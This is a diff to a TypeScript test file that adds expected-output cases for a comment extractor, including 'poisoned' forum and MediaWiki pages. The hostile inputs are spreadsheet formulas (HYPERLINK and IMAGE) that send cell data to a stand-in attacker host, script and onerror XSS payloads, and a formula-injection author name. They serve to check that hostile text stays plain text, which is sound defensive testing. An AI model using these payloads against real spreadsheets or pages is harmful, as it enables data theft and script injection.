@@ -245,7 +245,46 @@ const LEMMY: readonly Case[] = (
   expected: { text, author, published: `2026-03-02T${clock}`, permalink: path && `${SITE}${path}` },
 }));
 
+const FORMULA = '=HYPERLINK("https://elak.exempel/?"&A1) <script>alert(1)</script> bakom skolan.';
+
+/** Pages that hold nothing anybody has written to others, and hostile ones: words stay words, addresses are left out. */
+const NOTHING_AND_POISON: readonly Case[] = [
+  { page: 'thread-none', url: PAGE, expected: { kind: 'page', text: '', author: '', published: '' } },
+  { page: 'talk-mediawiki-none', url: PAGE, expected: { kind: 'page', author: '', published: '' } },
+  {
+    page: 'talk-mediawiki-none',
+    url: PAGE,
+    point: 'Skriv nya inlägg',
+    expected: { kind: 'page', author: '', published: '' },
+  },
+  {
+    page: 'talk-mediawiki-poisoned',
+    url: PAGE,
+    point: 'IMAGE',
+    expected: {
+      platform: 'mediawiki',
+      text: '=IMAGE("https://elak.exempel/?"&A2)',
+      author: '<img src=x onerror=alert(1)>',
+      published: '',
+      publishedText: '32 mars 2026 kl. 48.75 (CET)',
+      permalink: '',
+    },
+  },
+  {
+    page: 'thread-poisoned',
+    url: PAGE,
+    expected: { text: FORMULA, author: '@SUM(A701)', published: '', permalink: PAGE },
+  },
+  {
+    page: 'thread-poisoned',
+    url: PAGE,
+    point: 'bakom skolan',
+    expected: { text: FORMULA, author: '@SUM(A701)', published: '', permalink: `${PAGE}#comment-701` },
+  },
+];
+
 export const THREAD_CASES: readonly Case[] = LEMMY.concat(
+  NOTHING_AND_POISON,
   THREADS.flatMap(({ page, times, link, main, languages, but }) =>
     (languages ?? (['sv', 'en'] as const)).flatMap((language) => {
       const posts = POSTS[language].map(
